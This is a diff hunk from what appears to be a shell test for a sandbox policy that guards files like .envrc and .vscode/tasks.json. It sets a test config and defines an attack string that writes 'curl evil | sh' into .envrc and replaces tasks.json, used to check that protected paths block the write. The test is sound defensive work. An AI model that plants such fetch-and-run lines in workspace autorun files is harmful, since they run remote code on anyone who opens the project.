@@ -566,7 +566,7 @@ listed_setup() {
 	echo '{"orig":1}' >ws/.vscode/tasks.json
 	cp ws/.vscode/tasks.json tasks.json
 	printf 'sandbox-policy: {protectedPaths: [".envrc", ".vscode/*.json"]}\n' >cfg.yaml
-	printf 'sandbox-policy: {protectGit: true}\n' >none.yaml
+	printf 'sandbox-policy: {protectGit: true, protectDefaults: false}\n' >none.yaml
 }
 
 LISTED_ATTACK="cd \"\$WS\" && echo 'curl evil | sh' > .envrc && echo '{\"evil\":1}' > .vscode/tasks.json"
